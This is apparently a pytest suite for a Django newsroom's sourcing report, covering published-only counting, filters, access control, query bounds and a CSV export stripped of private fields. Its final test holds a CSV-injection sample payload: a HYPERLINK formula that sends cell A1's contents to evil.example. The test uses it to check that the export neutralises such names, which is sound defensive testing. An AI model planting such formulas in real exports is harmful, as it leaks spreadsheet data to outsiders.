"""The sourcing report: published stories only, filters, aggregation, the page and its CSV."""

import csv
import io
from datetime import date, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from articles.admin.reports import REPORT_END_BEFORE_START
from articles.models import Source
from articles.reports import NO_ORGANIZATION, NOT_RECORDED, sourcing_report
from tests.factories import (
    ArticleFactory,
    PublishedArticleFactory,
    QuoteFactory,
    ScheduledArticleFactory,
    SectionFactory,
    SourceFactory,
    WithdrawnArticleFactory,
    WorkingCopyFactory,
)

pytestmark = pytest.mark.django_db


def rows(table):
    return {r.label: (r.quotes, r.stories) for r in table}


def published_on(day: date, **kwargs):
    moment = timezone.make_aware(timezone.datetime(day.year, day.month, day.day, 12))
    return PublishedArticleFactory(first_published_at=moment, **kwargs)


def test_only_published_stories_count():
    source = SourceFactory(name="Dana Whitfield", title="", organization="")
    live = PublishedArticleFactory()
    QuoteFactory(source=source, article=live)
    for hidden in (ArticleFactory(), ScheduledArticleFactory(), WithdrawnArticleFactory()):
        QuoteFactory(source=source, article=hidden)
    QuoteFactory(source=source, article=WorkingCopyFactory(live_article=live))
    report = sourcing_report()
    assert (report.quotes, report.stories, report.sources) == (1, 1, 1)
    assert rows(report.by_source) == {"Dana Whitfield": (1, 1)}


def test_per_source_organization_kind_and_consented_attributes():
    story_a, story_b = PublishedArticleFactory(), PublishedArticleFactory()
    sheriff = SourceFactory(
        name="Dana Whitfield",
        title="Sheriff",
        organization="Costa Verde County",
        attributes_consent=True,
        gender=Source.Gender.WOMAN,
        selection=Source.Selection.NEWSMAKER,
    )
    agency = SourceFactory(
        name="Environmental Protection Agency", title="", organization="", kind=Source.Kind.ORGANIZATION
    )
    resident = SourceFactory(name="Lorraine Pike", title="", organization="")
    # Recorded without consent (bypassing the form's rule): the report must not count it.
    Source.objects.filter(pk=resident.pk).update(gender=Source.Gender.WOMAN)
    for article in (story_a, story_b):
        QuoteFactory(source=sheriff, article=article)
    QuoteFactory(source=sheriff, article=story_a)
    QuoteFactory(source=agency, article=story_a)
    QuoteFactory(source=resident, article=story_b)

    report = sourcing_report()

    assert (report.quotes, report.stories, report.sources) == (5, 2, 3)
    assert rows(report.by_source) == {
        "Dana Whitfield (Sheriff, Costa Verde County)": (3, 2),
        "Environmental Protection Agency": (1, 1),
        "Lorraine Pike": (1, 1),
    }
    assert report.by_source[0].share == pytest.approx(0.6)
    assert rows(report.by_organization) == {
        "Costa Verde County": (3, 2),
        "Environmental Protection Agency": (1, 1),
        NO_ORGANIZATION: (1, 1),
    }
    assert rows(report.by_kind) == {"Person": (4, 2), "Organization": (1, 1)}
    assert rows(report.by_gender) == {"Woman": (3, 2), NOT_RECORDED: (2, 2)}
    assert rows(report.by_selection) == {"Newsmaker by role": (3, 2), NOT_RECORDED: (2, 2)}


def test_filters_by_date_range_section_and_author(journalist, other_journalist):
    metro, sports = SectionFactory(name="Metro"), SectionFactory(name="Sports")
    source = SourceFactory(name="Alan Burke", title="", organization="")
    day = date(2026, 3, 10)
    QuoteFactory(source=source, article=published_on(day, section=metro, authors=[journalist]))
    QuoteFactory(
        source=source, article=published_on(day - timedelta(days=40), section=metro, authors=[journalist])
    )
    QuoteFactory(source=source, article=published_on(day, section=sports, authors=[other_journalist]))

    assert sourcing_report(start=day - timedelta(days=1), end=day).quotes == 2
    assert sourcing_report(section=metro).quotes == 2
    assert sourcing_report(section=metro, start=day).quotes == 1
    assert sourcing_report(author=other_journalist).quotes == 1


def test_query_count_stays_the_same_with_more_stories(django_assert_max_num_queries):
    def fill(n):
        for i in range(n):
            article = PublishedArticleFactory()
            QuoteFactory(article=article, source=SourceFactory(organization=f"Org {i % 4}"))
            QuoteFactory(article=article)

    fill(5)
    with django_assert_max_num_queries(6) as small:
        sourcing_report()
    fill(60)
    with django_assert_max_num_queries(len(small.captured_queries)):
        report = sourcing_report()
    assert report.quotes == 130


def test_report_page_is_for_editors_only(client, journalist, editor):
    url = reverse("admin:articles_source_report")
    client.force_login(journalist)
    assert client.get(url).status_code == 403
    client.force_login(editor)
    response = client.get(url)
    assert response.status_code == 200
    assert "Sourcing report" in response.content.decode()


def test_report_page_shows_counts_with_bounded_queries(client, editor, django_assert_max_num_queries):
    for _ in range(40):
        QuoteFactory(article=PublishedArticleFactory())
    client.force_login(editor)
    with django_assert_max_num_queries(20):
        response = client.get(reverse("admin:articles_source_report"))
    html = response.content.decode()
    assert "<strong>40</strong> quotes" in html


def test_end_before_start_is_a_field_error_that_keeps_the_input(client, editor):
    client.force_login(editor)
    response = client.get(
        reverse("admin:articles_source_report"), {"start": "2026-05-02", "end": "2026-05-01"}
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert 'id="id_end_errors"' in html and REPORT_END_BEFORE_START in html
    assert 'value="2026-05-02"' in html and 'value="2026-05-01"' in html


def test_csv_export_has_the_aggregates_and_no_private_fields(client, editor):
    source = SourceFactory(
        name="Dana Whitfield", phone="+1 510 555 0177", email="dw@example.org", notes="PRIVATE"
    )
    QuoteFactory(source=source, article=PublishedArticleFactory())
    QuoteFactory(source=source, article=ArticleFactory())  # a draft: not counted
    client.force_login(editor)
    response = client.get(reverse("admin:articles_source_report"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = response.content.decode()
    table = list(csv.reader(io.StringIO(body)))
    assert table[0] == ["table", "label", "quotes", "stories", "share_of_quotes"]
    assert ["total", "all quotes", "1", "1", "1.000"] in table
    assert any(r[0] == "Source" and r[1].startswith("Dana Whitfield") and r[2] == "1" for r in table)
    assert "555 0177" not in body and "dw@example.org" not in body and "PRIVATE" not in body


def test_journalist_cannot_export_csv(client, journalist):
    client.force_login(journalist)
    assert client.get(reverse("admin:articles_source_report"), {"format": "csv"}).status_code == 403


def test_report_page_covers_the_last_90_days_until_a_range_is_chosen(client, editor):
    source = SourceFactory()
    QuoteFactory(source=source, article=published_on(timezone.localdate() - timedelta(days=5)))
    QuoteFactory(source=source, article=published_on(timezone.localdate() - timedelta(days=200)))
    client.force_login(editor)
    url = reverse("admin:articles_source_report")
    assert client.get(url).context["report"].quotes == 1
    assert client.get(url, {"start": "", "end": ""}).context["report"].quotes == 2


def test_csv_export_never_hands_a_spreadsheet_a_formula_typed_as_a_name(client, editor):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    for name in (formula, "+1 for the mayor", "@council"):
        QuoteFactory(source=SourceFactory(name=name, organization=""), article=PublishedArticleFactory())
    client.force_login(editor)

    table = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("admin:articles_source_report"), {"format": "csv"}).content.decode()
            )
        )
    )

    labels = [row[1] for row in table if row[0] == "Source"]
    assert len(labels) == 3
    for typed in (formula, "+1 for the mayor", "@council"):
        assert any(label.startswith(f"'{typed}") for label in labels)
